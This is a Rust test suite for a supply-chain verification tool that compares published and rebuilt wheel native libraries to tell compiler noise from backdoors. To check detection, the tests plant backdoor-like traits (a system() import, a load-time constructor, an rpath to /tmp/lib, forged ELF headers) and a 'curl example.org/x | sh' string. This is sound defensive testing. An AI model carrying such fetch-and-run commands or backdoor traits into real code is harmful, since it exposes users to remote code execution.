//! Compiled members: what a compiler, a linker and a bundling tool change is told apart from what a backdoor changes.
//! Files are made by the machine's own compiler.

use crate::mutants::{fix_record, pack};
use crate::record::contents;
use proptest::prelude::*;
use std::process::Command;
use std::sync::OnceLock;
use trustmill_core::Verdict;
use trustmill_core::comparison::DifferenceClass::{self, *};
use trustmill_inspect::archive::Limits;
use trustmill_inspect::compare::compare;
use trustmill_inspect::elf::{Elf, ElfError};

const NAME: &str = "a-1-cp311-cp311-manylinux_2_17_x86_64.whl";

/// A module with an import, a table, some text and a loop that compilers write differently.
const SOURCE: &str = r#"
#include <stdlib.h>
#include <string.h>
static const char *words[] = {"first words", "second words"};
int total(const int *values, int count) {
    int sum = 0;
    for (int i = 0; i < count; i++) sum += values[i] * i;
    return sum;
}
long PyInit_a(const char *text) { return strtol(text, 0, 10) + (long)words[strlen(text) & 1]; }
"#;

/// Compiles `source` to a shared library.
fn library(source: &str, flags: &[&str]) -> Vec<u8> {
    let folder = tempfile::tempdir().unwrap();
    let (input, output) = (folder.path().join("a.c"), folder.path().join("a.so"));
    std::fs::write(&input, source).unwrap();
    let mut cc = Command::new("cc");
    cc.args(["-shared", "-fPIC", "-Wl,--build-id", "-o"]).arg(&output).arg(&input).args(flags);
    let done = cc.output().unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    std::fs::read(output).unwrap()
}

/// The same file as if another compiler had written it.
fn by_another_compiler(mut file: Vec<u8>) -> Vec<u8> {
    let comment = section(&file, ".comment").0;
    file[comment] ^= 1;
    file
}

/// Where the bytes of a section begin, and how many they are.
fn section(file: &[u8], name: &str) -> (usize, usize) {
    let read = Elf::read(file).unwrap();
    let section = read.sections.iter().find(|section| section.name == name).unwrap();
    (section.offset.try_into().unwrap(), section.bytes.len())
}

fn with(source: &str, more: &str) -> String {
    format!("{source}\n{more}\n")
}

fn wheel(file: &[u8], others: &[(&str, &[u8])]) -> bytes::Bytes {
    let tags = b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: cp311-cp311-linux_x86_64\n";
    let mut all: Vec<(&str, &[u8])> =
        vec![("a-1.dist-info/RECORD", b""), ("a-1.dist-info/WHEEL", tags), ("a/_c.so", file)];
    all.extend_from_slice(others);
    let mut wheel = contents(&all);
    fix_record(&mut wheel);
    pack(&wheel)
}

/// Class, sentence and verdict of two libraries in a wheel.
fn found(published: &[u8], rebuilt: &[u8]) -> (DifferenceClass, String, Verdict) {
    let found = compare(NAME, &wheel(published, &[]), &wheel(rebuilt, &[]), &Limits::default()).unwrap();
    let [difference] = found.differences.as_slice() else { panic!("{found:#?}") };
    assert_eq!(difference.alarming, found.verdict == Verdict::Unexplained, "{difference:?}");
    (difference.class, difference.detail.clone(), found.verdict)
}

#[test]
fn debugging_information_and_stripping_are_explained() {
    let (plain, debug) = (library(SOURCE, &["-O2"]), library(SOURCE, &["-O2", "-g"]));
    let (class, detail, verdict) = found(&debug, &plain);
    assert_eq!((class, verdict), (NativeMetadata, Verdict::Explained), "{detail}");
    assert!(detail.contains(".debug_info") && detail.contains(".note.gnu.build-id"), "{detail}");
    let (class, detail, _) = found(&plain, &library(SOURCE, &["-O2", "-s"]));
    assert_eq!(class, NativeMetadata, "{detail}");
    assert!(detail.contains(".symtab"), "{detail}");
    assert_eq!(found(&by_another_compiler(plain.clone()), &plain).0, NativeMetadata);
}

#[test]
fn other_code_is_explained_by_another_compiler_alone() {
    let (one, other) = (library(SOURCE, &["-O0"]), library(SOURCE, &["-O2"]));
    let (class, detail, verdict) = found(&one, &other);
    assert_eq!((class, verdict), (NativeCode, Verdict::Unexplained), "{detail}");
    assert!(detail.contains("no other compiler is named"), "{detail}");
    let (class, detail, verdict) = found(&by_another_compiler(one), &other);
    assert_eq!((class, verdict), (NativeCompiler, Verdict::Explained), "{detail}");
    assert!(detail.contains(".text"), "{detail}");
}

#[test]
fn what_a_backdoor_needs_alarms_whichever_compiler_is_named() {
    let ours = library(SOURCE, &["-O2"]);
    for (more, says) in [
        ("int run(void) { return system(\"id\"); }", "symbol imported by the published file alone: system"),
        ("long PyInit_b(void) { return 0; }", "symbol exported by the published file alone: PyInit_b"),
        (
            "static __attribute__((constructor)) void first(void) { words[0] = words[1]; }",
            "more runs while it is loaded",
        ),
        (
            "static void *pick(void) { return total; } int chosen(void) __attribute__((ifunc(\"pick\")));",
            "exported",
        ),
    ] {
        let theirs = by_another_compiler(library(&with(SOURCE, more), &["-O2"]));
        let (class, detail, verdict) = found(&theirs, &ours);
        assert_eq!((class, verdict), (NativeInterface, Verdict::Unexplained), "{more}: {detail}");
        assert!(detail.contains(says), "{more}: {detail}");
    }
    let planted = SOURCE.replace("first words", "curl example.org/x | sh");
    let (class, detail, _) = found(&by_another_compiler(library(&planted, &["-O1"])), &ours);
    assert_eq!(class, NativeCode, "{detail}");
    assert!(detail.contains("curl example.org/x | sh"), "{detail}");
    let filler = "static volatile int v; void more(void) {".to_owned() + &"v++;".repeat(9_000) + "}";
    let hidden =
        with(SOURCE, &filler.replace("void more", "__attribute__((visibility(\"hidden\"))) void more"));
    let (class, detail, _) = found(&by_another_compiler(library(&hidden, &["-O0"])), &ours);
    assert_eq!(class, NativeCode, "{detail}");
    assert!(detail.contains("bytes of code"), "{detail}");
}

#[test]
fn a_mapping_that_is_writable_and_runs_alarms() {
    let (class, detail, _) = found(&library(SOURCE, &["-O2", "-zexecstack"]), &library(SOURCE, &["-O2"]));
    assert_eq!(class, NativeInterface);
    assert!(detail.contains("writable and runs"), "{detail}");
}

#[test]
fn a_search_path_may_stay_in_the_wheel_and_not_leave_it() {
    let searching = |path: &str| library(SOURCE, &["-O2", &format!("-Wl,-rpath,{path}")]);
    let ours = searching("$ORIGIN/../b.libs");
    let (class, detail, _) = found(&searching("$ORIGIN/../a.libs"), &ours);
    assert_eq!(class, NativeLinking, "{detail}");
    assert!(detail.contains("search path"), "{detail}");
    let (class, detail, _) = found(&searching("/tmp/lib"), &ours);
    assert_eq!(class, NativeInterface, "{detail}");
    assert!(detail.contains("/tmp/lib"), "{detail}");
}

/// `SOURCE` linked with a library whose name for itself is `soname`.
fn linked_with(soname: &str) -> (Vec<u8>, Vec<u8>) {
    let folder = tempfile::tempdir().unwrap();
    let stub = library("int stub(void) { return 1; }", &["-O2", &format!("-Wl,-soname,{soname}")]);
    let path = folder.path().join("libstub.so");
    std::fs::write(&path, &stub).unwrap();
    let source = with(SOURCE, "int stub(void); int call(void) { return stub(); }");
    (library(&source, &["-O2", path.to_str().unwrap()]), stub)
}

#[test]
fn a_bundled_library_alarms_and_its_new_name_does_not() {
    let (theirs, stub) = linked_with("libstub-0a1b2c3d.so.1");
    let (ours, _) = linked_with("libstub.so.1");
    let bundled = [("a.libs/libstub-0a1b2c3d.so.1", &stub[..])];
    let found_in = |others: &[(&str, &[u8])]| {
        compare(NAME, &wheel(&theirs, others), &wheel(&ours, &[]), &Limits::default()).unwrap()
    };
    let found = found_in(&bundled);
    let classes: Vec<_> = found.differences.iter().map(|one| (one.class, one.alarming)).collect();
    assert_eq!(classes, [(BundledLibrary, true), (NativeLinking, false)], "{found:#?}");
    assert_eq!(found.verdict, Verdict::Unexplained);
    let elsewhere = found_in(&[]);
    assert_eq!(
        elsewhere.differences[0].class, NativeInterface,
        "the library is not in the wheel: {elsewhere:#?}"
    );
}

/// Code that runs, in a file whose section table shows other bytes, is not overlooked.
#[test]
fn a_section_table_that_lies_is_refused() {
    let good = library(SOURCE, &["-O2"]);
    assert!(Elf::read(&good).is_ok());
    let appended = [&good[..], b"payload"].concat();
    assert_eq!(Elf::read(&appended), Err(ElfError::Disagrees("bytes belong to no part of the file")));
    let table = usize::try_from(u64::from_le_bytes(good[40..48].try_into().unwrap())).unwrap();
    let count = usize::from(u16::from_le_bytes([good[60], good[61]]));
    let text = section(&good, ".text");
    for (at, change) in [(16, 16_u64), (24, 16), (32, text.1 as u64 - 16), (8, 0)] {
        let mut lying = good.clone();
        let header = (1..count).map(|index| table + index * 64).find(|header| {
            u64::from_le_bytes(good[header + 24..header + 32].try_into().unwrap()) == text.0 as u64
        });
        let field = header.unwrap() + at;
        let old = u64::from_le_bytes(good[field..field + 8].try_into().unwrap());
        let new = if at == 32 || at == 8 { change } else { old + change };
        lying[field..field + 8].copy_from_slice(&new.to_le_bytes());
        assert!(matches!(Elf::read(&lying), Err(ElfError::Disagrees(_))), "{at}: {:?}", Elf::read(&lying));
        assert_eq!(found(&lying, &good).0, NativeInterface);
    }
    let mut removed = good;
    removed[40..48].fill(0);
    removed[58..64].fill(0);
    assert_eq!(Elf::read(&removed), Err(ElfError::NoSections));
}

/// A segment that takes bytes of the file and no room in memory would be left out of every check.
#[test]
fn a_segment_without_room_for_its_bytes_is_refused() {
    let good = library(SOURCE, &["-O2"]);
    let table = usize::try_from(u64::from_le_bytes(good[32..40].try_into().unwrap())).unwrap();
    let count = usize::from(u16::from_le_bytes([good[56], good[57]]));
    let load =
        (0..count).map(|index| table + index * 56).rfind(|header| good[*header..*header + 4] == [1, 0, 0, 0]);
    let load = load.unwrap();
    let mut lying = good;
    lying[load + 40..load + 48].fill(0);
    assert!(matches!(Elf::read(&lying), Err(ElfError::Disagrees(_))), "{:?}", Elf::read(&lying));
    lying[load + 32..load + 40].fill(0xff);
    assert!(matches!(Elf::read(&lying), Err(ElfError::Disagrees(_))), "{:?}", Elf::read(&lying));
}

#[test]
fn paths_of_the_build_in_the_data_are_explained() {
    let source = with(SOURCE, "const char *where(void) { return __FILE__; }");
    let (class, detail, verdict) = found(&library(&source, &["-O2"]), &library(&source, &["-O2"]));
    assert_eq!((class, verdict), (BuildPath, Verdict::Explained), "{detail}");
    let (one, other) =
        (source.replace("__FILE__", "\"/etc/one\""), source.replace("__FILE__", "\"/etc/two\""));
    assert_eq!(found(&library(&one, &["-O2"]), &library(&other, &["-O2"])).0, NativeCode);
}

/// Swapping two imported functions is a change of relocations: the code is the same.
#[test]
fn code_that_is_the_same_and_calls_other_functions_is_not_explained() {
    let source = |one: &str, other: &str| {
        format!(
            "int {one}(void); int {other}(void); int a(void) {{ return {one}(); }} int b(void) {{ return 2 * {other}(); }}"
        )
    };
    let (theirs, ours) = (library(&source("fa", "fb"), &["-O2"]), library(&source("fb", "fa"), &["-O2"]));
    let (class, detail, verdict) = found(&theirs, &ours);
    assert_eq!((class, verdict), (NativeCode, Verdict::Unexplained), "{detail}");
}

fn good() -> &'static [u8] {
    static GOOD: OnceLock<Vec<u8>> = OnceLock::new();
    GOOD.get_or_init(|| library(SOURCE, &["-O2"]))
}

proptest! {
    #[test]
    fn no_bytes_make_the_reader_panic(tail in proptest::collection::vec(any::<u8>(), 0..400)) {
        let _ = Elf::read(&tail);
        let _ = Elf::read(&[b"\x7fELF\x02\x01\x01", &tail[..]].concat());
    }

    #[test]
    fn a_changed_file_is_read_or_refused(changes in proptest::collection::vec((any::<proptest::sample::Index>(), any::<u8>()), 1..6)) {
        let mut file = good().to_vec();
        for (at, value) in changes {
            let at = at.index(file.len());
            file[at] = value;
        }
        let _ = compare(NAME, &wheel(&file, &[]), &wheel(good(), &[]), &Limits::default());
    }

    /// No bit of what a loader maps is called harmless.
    #[test]
    fn no_change_of_what_is_mapped_is_explained(at in any::<proptest::sample::Index>(), bit in 0_u8..8) {
        let mut file = good().to_vec();
        let read = Elf::read(good()).unwrap();
        let identity = section(good(), ".note.gnu.build-id");
        let mapped: Vec<usize> = read
            .loaded()
            .flat_map(|one| {
                let start = usize::try_from(one.offset).unwrap();
                start..start + one.bytes.len()
            })
            .filter(|at| !(identity.0..identity.0 + identity.1).contains(at))
            .collect();
        let at = mapped[at.index(mapped.len())];
        file[at] ^= 1 << bit;
        let (class, detail, verdict) = found(&file, good());
        let harmless = class == NativeLinking;
        prop_assert!(verdict == Verdict::Unexplained || harmless, "{at:#x} {class:?} {detail}");
    }
}
